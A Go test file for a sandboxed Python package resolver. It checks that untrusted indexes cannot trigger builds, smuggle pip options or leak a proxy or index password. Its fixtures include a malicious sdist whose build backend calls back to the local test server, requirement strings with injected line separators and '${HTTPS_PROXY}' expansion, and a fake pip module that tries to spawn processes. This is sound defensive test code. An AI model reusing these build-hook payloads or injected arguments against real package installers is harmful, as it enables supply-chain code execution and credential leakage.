package packages

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"codemode/internal/packages/packagestest"
	"codemode/internal/sandbox"
)

// source is a package whose building asks an address.
func source(t *testing.T, address string) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	a := tar.NewWriter(z)
	for name, text := range map[string]string{
		"evil-1.0/PKG-INFO":       "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
		"evil-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n",
		"evil-1.0/b.py": "import os, urllib.request\nurllib.request.urlopen('" + address + "/ran')\n" +
			"def prepare_metadata_for_build_wheel(d, c=None): return 'evil-1.0.dist-info'\n",
	} {
		if err := a.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}); err != nil {
			t.Fatal(err)
		}
		if _, err := a.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestStrangersCodeIsNotRun: an index and what is in it decide about versions, and nothing more: they have nothing built,
// fetched from an address of theirs, or put into what pip is told.
func TestStrangersCodeIsNotRun(t *testing.T) {
	s := newStore(t)
	s.Env = []string{"HTTPS_PROXY=http://proxy:hush@127.0.0.1:9"}
	x := packagestest.NewIndex()
	defer x.Close()
	host := strings.TrimSuffix(x.URL(), "/simple")
	x.AddFile("elsewhere", "evil-1.0.tar.gz", source(t, host))
	x.Add(packagestest.Wheel{Name: "evil", Version: "1.0", Files: map[string]string{"evil.py": ""}})
	needs := func(name, what string) {
		x.Add(packagestest.Wheel{Name: name, Version: "1.0", Requires: []string{what}, Files: map[string]string{name + ".py": ""}})
	}
	needs("builds", "evil @ "+host+"/files/evil-1.0.tar.gz")
	needs("clones", "evil @ git+"+host+"/x.git")
	needs("direct", "evil @ "+host+"/files/evil-1.0-py3-none-any.whl")
	now := time.Now().Add(-time.Hour)
	young := func(name, query string) {
		w := packagestest.Wheel{Name: name, Version: "1.0", Files: map[string]string{name + ".py": ""}}
		x.AddElsewhere(now, w, host+"/files/"+w.FileName()+"?p"+query)
	}
	young("lines", "\u2028--no-binary=:all:\u2028evil @ "+host+"/files/evil-1.0.tar.gz\u2028lines\u2028#")
	young("variables", "=${HTTPS_PROXY}")
	for requirement, want := range map[string]string{
		"builds": "by its address", "clones": "by its address", "direct": "by its address",
		"lines==1.0": "an address that cannot be used", "variables==1.0": "an address that cannot be used",
	} {
		w := Wish{Requirements: []string{requirement}, Index: x.URL(), Cooldown: 7 * 24 * time.Hour}
		if _, err := s.Resolve(t.Context(), w, nil, nil); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", requirement, err, want)
		}
	}
	for _, asked := range x.Asked() {
		if strings.HasPrefix(asked, "/ran") || strings.HasPrefix(asked, "/files/evil") || strings.HasPrefix(asked, "/x.git") ||
			strings.Contains(asked, "hush") {
			t.Errorf("the index was asked for %s", asked)
		}
	}
}

// TestPipStartsNothing: whatever pip is made to do, no program is one of it.
func TestPipStartsNothing(t *testing.T) {
	s := newStore(t)
	py, err := s.Source.Prepare(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	for name, text := range map[string]string{
		"pip/__init__.py": "", "pip/_internal/__init__.py": "", "pip/_internal/resolution/__init__.py": "",
		"pip/_internal/exceptions.py":                     "InstallationError = Exception",
		"pip/_internal/resolution/resolvelib/__init__.py": "",
		"pip/_internal/index/__init__.py":                 "", "pip/_internal/index/collector.py": "",
		"pip/_internal/resolution/resolvelib/factory.py": "class Factory:\n    _make_requirements_from_install_req = None",
		"pip/__main__.py": "import os, subprocess\n" +
			"for start in (lambda: subprocess.run(['true']), lambda: os.system('true'), os.fork, lambda: os.execv('/bin/true', ['x'])):\n" +
			"    try: start()\n    except PermissionError as e: print(e)\n    else: print('started')",
		"addresses": "\n", "arguments": "\n",
	} {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var said []string
	args := []string{runPip, dir, dir}
	err = s.run(t.Context(), py, sandbox.Restrictions{Read: []string{dir}}, args, func(line string) { said = append(said, line) })
	if err != nil || len(said) != 4 || slices.Contains(said, "started") {
		t.Errorf("%v: %q", err, said)
	}
}

// TestIndexPassword: who may read an index is its user's affair, and stands in no lock, no message and no process's
// arguments.
func TestIndexPassword(t *testing.T) {
	s := newStore(t)
	var told []string
	s.Progress = func(text string) { told = append(told, text) }
	x := packagestest.NewIndex()
	defer x.Close()
	x.Add(five()...)
	address, err := url.Parse(x.URL())
	if err != nil {
		t.Fatal(err)
	}
	address.User = url.UserPassword("reader", "hush")
	var asked atomic.Int64
	serve := x.Server.Config.Handler
	x.Server.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		processes, _ := filepath.Glob("/proc/[0-9]*/cmdline") // the pattern is sound
		for _, p := range processes {
			if arguments, _ := os.ReadFile(p); bytes.Contains(arguments, []byte("hush")) {
				t.Errorf("every user can read %.200q", arguments)
			}
		}
		serve.ServeHTTP(w, r)
	})
	lock := add(t, s, Wish{Requirements: []string{"words-kit"}, Index: address.String()})
	_, err = s.Resolve(t.Context(), Wish{Requirements: []string{"nosuch"}, Index: address.String()}, nil, nil)
	if err == nil {
		t.Fatal("there is a package nosuch")
	}
	if all := string(lock.encode()) + strings.Join(told, "\n") + err.Error(); strings.Contains(all, "hush") {
		t.Errorf("the password is told:\n%s", all)
	}
	if !slices.Contains(x.Asked(), "reader:hush /simple/words-kit/") {
		t.Errorf("the index was asked for %q", x.Asked())
	}
	if asked.Load() == 0 {
		t.Error("nobody looked at arguments")
	}
	if lock.Packages[0].Index != x.URL() || !SameIndex(lock.Asked().Index, address.String()) {
		t.Errorf("the index is %q, asked %q", lock.Packages[0].Index, lock.Asked().Index)
	}
}
